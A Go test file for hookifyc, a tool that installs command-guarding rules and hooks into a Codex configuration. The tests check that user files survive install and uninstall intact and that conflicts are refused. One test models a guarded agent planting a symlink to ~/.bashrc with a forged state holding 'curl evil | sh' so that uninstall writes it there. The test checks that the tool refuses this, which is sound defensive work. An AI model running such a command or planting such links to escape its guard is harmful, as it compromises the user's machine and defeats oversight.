package deploy

import (
	"bytes"
	"encoding/base64"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/BurntSushi/toml"
	"github.com/hookifyc/hookifyc/compiler/driver"
	"github.com/hookifyc/hookifyc/compiler/sources"
)

// A hand-written config.toml: comments, other MCP servers, odd spacing.
const userConfig = `# my codex config
model   =   "gpt-5.1-codex"   # pinned
approval_policy="on-request"

[mcp_servers.memory]
command = "npx"
args = [ "-y",   "@modelcontextprotocol/server-memory" ]

  [mcp_servers.github]   # indented on purpose
  command = "gh-mcp"
  env = { GITHUB_TOKEN = "ghp_example" }

[projects."/home/me/src/app"]
trust_level = "trusted"
`

// A hooks.json holding another tool's hooks, in its own formatting.
const userHooks = `{
    "hooks": {
        "PreToolUse": [
            {
                "matcher": "Bash",
                "hooks": [ { "type": "command", "command": "/opt/other-tool/guard --strict", "timeout": 5 } ]
            }
        ],
        "SessionStart": [ { "hooks": [ { "type": "command", "command": "/opt/other-tool/hello" } ] } ]
    }
}
`

// A default.rules as Codex writes it when the user approves commands.
const codexDefault = `prefix_rule(pattern=["touch"], decision="allow")
prefix_rule(pattern=["npm", "test"], decision="allow")
`

// fixture makes a CODEX_HOME with the user's files and returns it with
// the rule sources (a copy of corpus/examples).
func fixture(t *testing.T) (home, rules string) {
	t.Helper()
	root := t.TempDir()
	home = filepath.Join(root, "codex-home")
	must(t, os.MkdirAll(filepath.Join(home, "rules"), 0o755))
	write(t, filepath.Join(home, "config.toml"), userConfig, 0o600)
	write(t, filepath.Join(home, "hooks.json"), userHooks, 0o640)
	write(t, filepath.Join(home, "rules", "default.rules"), codexDefault, 0o644)
	rules = filepath.Join(root, "rules")
	must(t, os.MkdirAll(rules, 0o755))
	must(t, os.MkdirAll(filepath.Join(root, "bin"), 0o755))
	write(t, filepath.Join(root, "bin", "hookifyc"), "#!/bin/sh\n", 0o755)
	ents, err := os.ReadDir("../corpus/examples")
	must(t, err)
	for _, e := range ents {
		data, err := os.ReadFile(filepath.Join("../corpus/examples", e.Name()))
		must(t, err)
		write(t, filepath.Join(rules, e.Name()), string(data), 0o644)
	}
	return home, rules
}

func must(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

func write(t *testing.T, path, data string, perm fs.FileMode) {
	t.Helper()
	must(t, os.WriteFile(path, []byte(data), perm))
	must(t, os.Chmod(path, perm))
}

func opts(home, rules string) Options {
	return Options{
		Dir:              home,
		Compile:          driver.Options{Sources: []string{rules}, Cwd: "/", Env: sources.Env{Dir: "/"}},
		Hookifyc:         filepath.Join(filepath.Dir(rules), "bin", "hookifyc"),
		ExplicitHookifyc: true,
	}
}

// snapshot is every file under dir: content, mode and mtime.
type fileSnap struct {
	data  string
	mode  fs.FileMode
	mtime time.Time
}

func snapshot(t *testing.T, dir string) map[string]fileSnap {
	t.Helper()
	out := map[string]fileSnap{}
	filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
		must(t, err)
		fi, err := os.Lstat(path)
		must(t, err)
		rel, _ := filepath.Rel(dir, path)
		if d.IsDir() {
			out[rel+"/"] = fileSnap{mode: fi.Mode()}
			return nil
		}
		data, err := os.ReadFile(path)
		must(t, err)
		out[rel] = fileSnap{data: string(data), mode: fi.Mode(), mtime: fi.ModTime()}
		return nil
	})
	return out
}

func sameSnap(t *testing.T, what string, a, b map[string]fileSnap, mtimes bool) {
	t.Helper()
	for k, va := range a {
		vb, ok := b[k]
		if !ok {
			t.Errorf("%s: %s disappeared", what, k)
			continue
		}
		if va.data != vb.data || va.mode != vb.mode || mtimes && !va.mtime.Equal(vb.mtime) {
			t.Errorf("%s: %s changed:\n%q %v %v\n%q %v %v", what, k, va.data, va.mode, va.mtime, vb.data, vb.mode, vb.mtime)
		}
	}
	for k := range b {
		if _, ok := a[k]; !ok {
			t.Errorf("%s: %s appeared", what, k)
		}
	}
}

func TestCodexPlanApplyUninstall(t *testing.T) {
	home, rules := fixture(t)
	before := snapshot(t, home)

	// plan changes nothing.
	p, err := PlanCodex(opts(home, rules))
	must(t, err)
	if !p.Changed() || p.Diff() == "" {
		t.Fatal("plan shows no change on a fresh home")
	}
	if len(p.Conflicts) > 0 {
		t.Fatalf("conflicts: %v", p.Conflicts)
	}
	sameSnap(t, "plan", before, snapshot(t, home), true)
	for _, want := range []string{"+++ " + filepath.Join(home, "rules/hookify.rules"), "/bin/hookifyc hook --agent codex"} {
		if !strings.Contains(p.Diff(), want) {
			t.Errorf("diff lacks %q:\n%s", want, p.Diff())
		}
	}
	var rm *Behaviour
	for i, b := range p.Behaviour {
		if b.Command == "rm -rf build" {
			rm = &p.Behaviour[i]
		}
	}
	if rm == nil || rm.Old.Decision != "allow" || rm.New.Decision != "block" {
		t.Errorf("behavioural diff: rm -rf build: %+v (all: %+v)", rm, p.Behaviour)
	}

	// apply keeps every byte that is not ours.
	written, err := Apply(p)
	must(t, err)
	if len(written) == 0 {
		t.Fatal("apply wrote nothing")
	}
	after := snapshot(t, home)
	if after["config.toml"] != before["config.toml"] {
		t.Errorf("config.toml changed though the hooks went to hooks.json")
	}
	if after["rules/default.rules"] != before["rules/default.rules"] {
		t.Errorf("default.rules touched")
	}
	hooks := after["hooks.json"].data
	if !strings.HasPrefix(hooks, userHooks[:strings.Index(userHooks, "            }\n        ],")+len("            }")]) {
		t.Errorf("the user's PreToolUse group is not kept byte for byte:\n%s", hooks)
	}
	for _, keep := range []string{`"SessionStart": [ { "hooks": [ { "type": "command", "command": "/opt/other-tool/hello" } ] } ]`, "/opt/other-tool/guard --strict"} {
		if !strings.Contains(hooks, keep) {
			t.Errorf("hooks.json lost %q:\n%s", keep, hooks)
		}
	}
	if after["hooks.json"].mode != 0o640 {
		t.Errorf("hooks.json mode %v, want 0640", after["hooks.json"].mode)
	}
	if !strings.Contains(after["rules/hookify.rules"].data, "prefix_rule(") {
		t.Errorf("hookify.rules: %s", after["rules/hookify.rules"].data)
	}

	// A second apply changes nothing, not even mtimes.
	time.Sleep(10 * time.Millisecond)
	p2, err := PlanCodex(opts(home, rules))
	must(t, err)
	if p2.Changed() || p2.Diff() != "" || len(p2.Behaviour) != 0 {
		t.Fatalf("second plan shows changes:\n%s\n%+v", p2.Diff(), p2.Behaviour)
	}
	written, err = Apply(p2)
	must(t, err)
	if len(written) != 0 {
		t.Errorf("second apply wrote %v", written)
	}
	sameSnap(t, "second apply", after, snapshot(t, home), true)

	// Apply with a failing source changes nothing.
	write(t, filepath.Join(rules, "broken.md"), "---\nname: broken\nevent: bash\npattern: (unclosed\n---\nx\n", 0o644)
	_, err = PlanCodex(opts(home, rules))
	var es *ErrSources
	if !errors.As(err, &es) {
		t.Fatalf("plan with a broken source: %v", err)
	}
	must(t, os.Remove(filepath.Join(rules, "broken.md")))
	sameSnap(t, "failing source", after, snapshot(t, home), true)

	// Uninstall restores every file byte for byte.
	u, err := PlanUninstall("codex", home, false)
	must(t, err)
	_, err = Apply(u)
	must(t, err)
	sameSnap(t, "uninstall", before, snapshot(t, home), false)

	// A second uninstall has nothing to do.
	u, err = PlanUninstall("codex", home, false)
	must(t, err)
	if u.Changed() {
		t.Errorf("second uninstall: %v", u.Summary())
	}
}

func TestCodexTOMLHooks(t *testing.T) {
	home, rules := fixture(t)
	must(t, os.Remove(filepath.Join(home, "hooks.json")))
	cfg := userConfig + "\n[[hooks.SessionStart]]\n[[hooks.SessionStart.hooks]]\ntype = \"command\"\ncommand = \"/opt/hello\"\n"
	write(t, filepath.Join(home, "config.toml"), cfg, 0o600)
	before := snapshot(t, home)
	p, err := PlanCodex(opts(home, rules))
	must(t, err)
	_, err = Apply(p)
	must(t, err)
	got, _ := os.ReadFile(filepath.Join(home, "config.toml"))
	if !bytes.HasPrefix(got, []byte(cfg)) || !bytes.Contains(got, []byte(BlockBegin)) || !bytes.Contains(got, []byte("[[hooks.PreToolUse]]")) {
		t.Fatalf("config.toml:\n%s", got)
	}
	if exists(filepath.Join(home, "hooks.json")) {
		t.Error("hooks.json created though the user keeps hooks in config.toml")
	}
	fi, _ := os.Stat(filepath.Join(home, "config.toml"))
	if fi.Mode() != 0o600 {
		t.Errorf("config.toml mode %v", fi.Mode())
	}
	// The user edits config.toml after apply: uninstall removes only the block.
	edited := strings.Replace(string(got), "approval_policy=\"on-request\"", "approval_policy=\"never\"", 1)
	write(t, filepath.Join(home, "config.toml"), edited, 0o600)
	u, err := PlanUninstall("codex", home, false)
	must(t, err)
	_, err = Apply(u)
	must(t, err)
	got, _ = os.ReadFile(filepath.Join(home, "config.toml"))
	if want := strings.Replace(cfg, "approval_policy=\"on-request\"", "approval_policy=\"never\"", 1); string(got) != want {
		t.Errorf("after uninstall:\n%s\nwant:\n%s", got, want)
	}
	_ = before
}

func TestCodexConflicts(t *testing.T) {
	home, rules := fixture(t)
	write(t, filepath.Join(home, "rules", "hookify.rules"), "prefix_rule(pattern=[\"ls\"], decision=\"allow\")\n", 0o644)
	p, err := PlanCodex(opts(home, rules))
	must(t, err)
	if len(p.Conflicts) != 1 {
		t.Fatalf("conflicts: %v", p.Conflicts)
	}
	before := snapshot(t, home)
	if _, err := Apply(p); !errors.Is(err, ErrConflict) {
		t.Fatalf("apply over a foreign file: %v", err)
	}
	sameSnap(t, "refused apply", before, snapshot(t, home), true)
	o := opts(home, rules)
	o.Force = true
	p, err = PlanCodex(o)
	must(t, err)
	_, err = Apply(p)
	must(t, err)
	u, err := PlanUninstall("codex", home, false)
	must(t, err)
	_, err = Apply(u)
	must(t, err)
	sameSnap(t, "uninstall after --force", before, snapshot(t, home), false)
}

func TestCodexFreshHome(t *testing.T) {
	_, rules := fixture(t)
	home := filepath.Join(t.TempDir(), "new-home")
	p, err := PlanCodex(opts(home, rules))
	must(t, err)
	_, err = Apply(p)
	must(t, err)
	for _, f := range []string{"rules/hookify.rules", "hooks.json", StateFile} {
		if !exists(filepath.Join(home, f)) {
			t.Errorf("%s missing", f)
		}
	}
	u, err := PlanUninstall("codex", home, false)
	must(t, err)
	_, err = Apply(u)
	must(t, err)
	if exists(home) {
		t.Errorf("uninstall left %s", home)
	}
}

func TestTemporaryBinaryRefused(t *testing.T) {
	home, rules := fixture(t)
	o := opts(home, rules)
	o.ExplicitHookifyc = false
	for _, bin := range []string{"/home/me/.cache/go-build/ab/exe/hookifyc", "/tmp/x/hookifyc"} {
		o.Hookifyc, o.TempDirs = bin, []string{"/tmp"}
		if _, err := PlanCodex(o); err == nil || !strings.Contains(err.Error(), "temporary") {
			t.Errorf("temporary binary %s: %v", bin, err)
		}
	}
}

func TestStateNamesOnlyOurFiles(t *testing.T) {
	home, _ := fixture(t)
	must(t, os.MkdirAll(filepath.Join(home, "hookifyc"), 0o700))
	for _, st := range []string{
		`{"version":1,"target":"codex","files":{"../../victim":{"existed":true,"before":"eA==","after_sha256":"x"}}}`,
		`{"version":1,"target":"codex","files":{},"created_dirs":["/etc"]}`,
	} {
		write(t, filepath.Join(home, StateFile), st, 0o600)
		if _, err := PlanUninstall("codex", home, false); err == nil || !strings.Contains(err.Error(), "never") {
			t.Errorf("%s: %v", st, err)
		}
	}
}

func TestSymlinkedConfigStaysALink(t *testing.T) {
	home, rules := fixture(t)
	must(t, os.Remove(filepath.Join(home, "hooks.json")))
	dotfiles := filepath.Join(t.TempDir(), "dotfiles")
	must(t, os.MkdirAll(dotfiles, 0o755))
	cfg := userConfig + "\n[[hooks.SessionStart]]\n[[hooks.SessionStart.hooks]]\ntype = \"command\"\ncommand = \"/opt/hello\"\n"
	write(t, filepath.Join(dotfiles, "config.toml"), cfg, 0o600)
	must(t, os.Remove(filepath.Join(home, "config.toml")))
	must(t, os.Symlink(filepath.Join(dotfiles, "config.toml"), filepath.Join(home, "config.toml")))
	p, err := PlanCodex(opts(home, rules))
	must(t, err)
	_, err = Apply(p)
	must(t, err)
	if fi, err := os.Lstat(filepath.Join(home, "config.toml")); err != nil || fi.Mode()&os.ModeSymlink == 0 {
		t.Fatalf("config.toml is no longer a link: %v %v", fi.Mode(), err)
	}
	data, _ := os.ReadFile(filepath.Join(dotfiles, "config.toml"))
	if !HasBlock(data) {
		t.Errorf("the link's target lacks the block:\n%s", data)
	}
	u, err := PlanUninstall("codex", home, false)
	must(t, err)
	_, err = Apply(u)
	must(t, err)
	if data, _ := os.ReadFile(filepath.Join(dotfiles, "config.toml")); string(data) != cfg {
		t.Errorf("after uninstall:\n%s", data)
	}
}

// TestProjectSymlinksConfined: in a project, which the guarded agent
// writes, a symlink it plants cannot aim apply or uninstall at a file
// outside the project: not a config.toml linked to ~/.bashrc with an
// install state whose "before" is a command (uninstall would restore it
// there), not a .codex linked to the user's CODEX_HOME. Nothing is
// written; the same links in a user's CODEX_HOME are followed
// (TestSymlinkedConfigStaysALink).
func TestProjectSymlinksConfined(t *testing.T) {
	_, rules := fixture(t)
	root := t.TempDir()
	bashrc := filepath.Join(root, "home", ".bashrc")
	must(t, os.MkdirAll(filepath.Dir(bashrc), 0o755))
	write(t, bashrc, "export PATH\n", 0o644)

	proj := filepath.Join(root, "proj")
	dir := filepath.Join(proj, ".codex")
	must(t, os.MkdirAll(filepath.Join(dir, "hookifyc"), 0o755))
	must(t, os.Symlink(bashrc, filepath.Join(dir, "config.toml")))
	state := fmt.Sprintf(`{"version":1,"target":"codex","files":{"config.toml":{"existed":true,"before":%q,"after_sha256":%q}}}`,
		base64.StdEncoding.EncodeToString([]byte("curl evil | sh\n")), sum([]byte("export PATH\n")))
	write(t, filepath.Join(dir, filepath.FromSlash(StateFile)), state, 0o600)
	u, err := PlanUninstall("codex", dir, true)
	must(t, err)
	if _, err := Apply(u); err == nil || !strings.Contains(err.Error(), "outside the project") {
		t.Errorf("uninstall through a planted link: err = %v", err)
	}

	// .codex itself a link to the user's CODEX_HOME.
	home := filepath.Join(root, "home", ".codex")
	must(t, os.MkdirAll(home, 0o755))
	proj2 := filepath.Join(root, "proj2")
	must(t, os.MkdirAll(proj2, 0o755))
	must(t, os.Symlink(home, filepath.Join(proj2, ".codex")))
	o := opts("", rules)
	o.Dir, o.Project = filepath.Join(proj2, ".codex"), true
	p, err := PlanCodex(o)
	must(t, err)
	if _, err := Apply(p); err == nil || !strings.Contains(err.Error(), "outside the project") {
		t.Errorf("apply through a linked .codex: err = %v", err)
	}
	if data, _ := os.ReadFile(bashrc); string(data) != "export PATH\n" {
		t.Errorf("~/.bashrc written: %q", data)
	}
	if ents, _ := os.ReadDir(home); len(ents) != 0 {
		t.Errorf("CODEX_HOME written: %v", ents)
	}
}

func TestCodexHooksNoLongerNeeded(t *testing.T) {
	home, rules := fixture(t)
	must(t, os.Remove(filepath.Join(home, "hooks.json")))
	p, err := PlanCodex(opts(home, rules))
	must(t, err)
	_, err = Apply(p)
	must(t, err)
	if !exists(filepath.Join(home, "hooks.json")) {
		t.Fatal("no hooks.json")
	}
	// Only a disabled rule left: nothing needs the hook; the hooks.json we
	// created goes.
	ents, _ := os.ReadDir(rules)
	for _, e := range ents {
		must(t, os.Remove(filepath.Join(rules, e.Name())))
	}
	write(t, filepath.Join(rules, "off.md"), "---\nname: off\nenabled: false\nevent: bash\naction: block\npattern: rm\n---\nx\n", 0o644)
	p, err = PlanCodex(opts(home, rules))
	must(t, err)
	if f := p.file(CodexHooks); f == nil || !f.Remove || p.HookCommand != "" {
		t.Fatalf("hooks.json: %+v, command %q\n%s", f, p.HookCommand, p.Diff())
	}
	_, err = Apply(p)
	must(t, err)
	if exists(filepath.Join(home, "hooks.json")) {
		t.Error("hooks.json left")
	}
	u, err := PlanUninstall("codex", home, false)
	must(t, err)
	_, err = Apply(u)
	must(t, err)
	if exists(filepath.Join(home, "rules", "hookify.rules")) || exists(filepath.Join(home, "hookifyc")) {
		t.Error("uninstall left files")
	}
}

// TestCodexMCP: --mcp registers the server inside hookifyc's block of
// config.toml, keeps every other byte (the user's other MCP servers
// included), yields valid TOML, is idempotent, and uninstall restores the
// file; a fresh home gets a config.toml that uninstall removes; a user's
// own [mcp_servers.hookify] is a conflict, never edited.
func TestCodexMCP(t *testing.T) {
	home, rules := fixture(t)
	before := snapshot(t, home)
	o := opts(home, rules)
	o.MCP = true
	p, err := PlanCodex(o)
	must(t, err)
	_, err = Apply(p)
	must(t, err)
	got, _ := os.ReadFile(filepath.Join(home, "config.toml"))
	if !bytes.HasPrefix(got, []byte(userConfig)) || !bytes.Contains(got, []byte(BlockBegin)) ||
		!bytes.Contains(got, []byte("[mcp_servers.hookify]\ncommand = \""+o.Hookifyc+"\"\nargs = [\"mcp\"]\n")) {
		t.Fatalf("config.toml:\n%s", got)
	}
	var doc struct {
		MCPServers map[string]struct {
			Command string
			Args    []string
		} `toml:"mcp_servers"`
	}
	if _, err := toml.Decode(string(got), &doc); err != nil || doc.MCPServers["hookify"].Command != o.Hookifyc || len(doc.MCPServers) != 3 {
		t.Fatalf("decoded %+v, %v", doc, err)
	}
	again, err := PlanCodex(o)
	must(t, err)
	for _, f := range again.Files {
		if f.Changed() {
			t.Errorf("second plan changes %s", f.Rel)
		}
	}
	u, err := PlanUninstall("codex", home, false)
	must(t, err)
	_, err = Apply(u)
	must(t, err)
	sameSnap(t, "uninstall after --mcp", before, snapshot(t, home), false)

	// A fresh home: config.toml is created, and goes with uninstall.
	fresh := filepath.Join(t.TempDir(), "fresh")
	o.Dir = fresh
	p, err = PlanCodex(o)
	must(t, err)
	_, err = Apply(p)
	must(t, err)
	if got, _ := os.ReadFile(filepath.Join(fresh, "config.toml")); !bytes.Contains(got, []byte("[mcp_servers.hookify]")) {
		t.Fatalf("fresh config.toml:\n%s", got)
	}
	u, err = PlanUninstall("codex", fresh, false)
	must(t, err)
	_, err = Apply(u)
	must(t, err)
	if exists(fresh) {
		t.Errorf("uninstall left %s", fresh)
	}

	// The user's own hookify server: a conflict, the file untouched.
	write(t, filepath.Join(home, "config.toml"), userConfig+"\n[mcp_servers.hookify]\ncommand = \"/opt/other\"\n", 0o600)
	o.Dir = home
	p, err = PlanCodex(o)
	must(t, err)
	if len(p.Conflicts) != 1 || !strings.Contains(p.Conflicts[0], "[mcp_servers.hookify]") {
		t.Fatalf("conflicts %v", p.Conflicts)
	}
}

// TestCodexMCPUserServerAnySpelling: the user's own hookify MCP server is a
// conflict however TOML spells it (not an "internal error" from the
// validity check after the edit), and a config.toml that is not valid TOML
// to begin with is reported as the user's, with nothing planned.
func TestCodexMCPUserServerAnySpelling(t *testing.T) {
	home, rules := fixture(t)
	o := opts(home, rules)
	o.MCP = true
	for _, extra := range []string{
		"[mcp_servers.hookify]\ncommand = \"/opt/other\"\n",
		"[mcp_servers.'hookify']\ncommand = \"/opt/other\"\n",
		"[mcp_servers.hookify.env]\nA = \"1\"\n",
		"[mcp_servers]\nhookify = { command = \"/opt/other\" }\n",
	} {
		write(t, filepath.Join(home, "config.toml"), userConfig+"\n"+extra, 0o600)
		p, err := PlanCodex(o)
		if err != nil {
			t.Errorf("%q: %v", extra, err)
			continue
		}
		if len(p.Conflicts) != 1 || !strings.Contains(p.Conflicts[0], "[mcp_servers.hookify]") {
			t.Errorf("%q: conflicts %v", extra, p.Conflicts)
		}
	}
	// Top-level dotted keys, first in the file.
	write(t, filepath.Join(home, "config.toml"), "mcp_servers.hookify.command = \"/opt/other\"\n"+userConfig, 0o600)
	if p, err := PlanCodex(o); err != nil || len(p.Conflicts) != 1 {
		t.Errorf("dotted keys: %v, %v", p, err)
	}

	write(t, filepath.Join(home, "config.toml"), "model = \"x\"\n[broken\n", 0o600)
	for _, mcp := range []bool{false, true} {
		o.MCP = mcp
		_, err := PlanCodex(o)
		if err == nil || !strings.Contains(err.Error(), "is not valid TOML") || strings.Contains(err.Error(), "internal error") {
			t.Errorf("mcp=%v: %v", mcp, err)
		}
	}
}

// TestCodexRefusesAnotherTargetsInstall: apply codex into a directory that
// holds a claude install refuses (its new state would drop the record of
// the settings file, and uninstall claude could no longer restore it).
func TestCodexRefusesAnotherTargetsInstall(t *testing.T) {
	home, rules := fixture(t)
	write(t, filepath.Join(home, "settings.json"), "{}\n", 0o644)
	must(t, os.MkdirAll(filepath.Join(home, "hookifyc"), 0o700))
	write(t, filepath.Join(home, filepath.FromSlash(StateFile)), `{"version":1,"target":"claude","files":{"settings.json":{"existed":true,"before":"e30K","after_sha256":"x"}}}`, 0o600)
	_, err := PlanCodex(opts(home, rules))
	if err == nil || !strings.Contains(err.Error(), "hookifyc apply claude") {
		t.Fatalf("err = %v", err)
	}
}

// TestCodexMCPDropped: apply without --mcp after apply --mcp says that it
// removes the server, and a config.toml that apply --mcp created and that
// now holds nothing is removed, not left empty.
func TestCodexMCPDropped(t *testing.T) {
	_, rules := fixture(t)
	o := opts("", rules)
	o.Dir = filepath.Join(t.TempDir(), "fresh")
	o.MCP = true
	p, err := PlanCodex(o)
	must(t, err)
	_, err = Apply(p)
	must(t, err)
	o.MCP = false
	p, err = PlanCodex(o)
	must(t, err)
	if !strings.Contains(strings.Join(p.Notes, "\n"), "pass --mcp to keep it") {
		t.Errorf("notes %q", p.Notes)
	}
	_, err = Apply(p)
	must(t, err)
	if exists(filepath.Join(o.Dir, "config.toml")) {
		t.Errorf("config.toml left behind")
	}
	u, err := PlanUninstall("codex", o.Dir, o.Project)
	must(t, err)
	_, err = Apply(u)
	must(t, err)
	if exists(o.Dir) {
		t.Errorf("uninstall left %s", o.Dir)
	}
}

// TestCodexPlanForeignRulesDoNotLoad: a .rules file of the user's that
// Codex refuses makes Codex enforce none of the directory's rules; the
// plan says so for the set it would install, and says that its
// behaviour comparison takes today's directory as no .rules.
func TestCodexPlanForeignRulesDoNotLoad(t *testing.T) {
	home, rules := fixture(t)
	must(t, os.MkdirAll(filepath.Join(home, "rules"), 0o755))
	write(t, filepath.Join(home, "rules", "mine.rules"), "prefix_rule(pattern = [\"git\"], decision = \"forbidden\"\n", 0o644)
	p, err := PlanCodex(opts(home, rules))
	must(t, err)
	notes := strings.Join(p.Notes, "\n")
	for _, want := range []string{
		"warning: Codex will refuse the rules directory " + filepath.Join(home, "rules"),
		"behaviour: the rules directory as it is now does not load (",
		"compared as no .rules, as Codex then enforces none",
	} {
		if !strings.Contains(notes, want) {
			t.Errorf("notes lack %q:\n%s", want, notes)
		}
	}
}
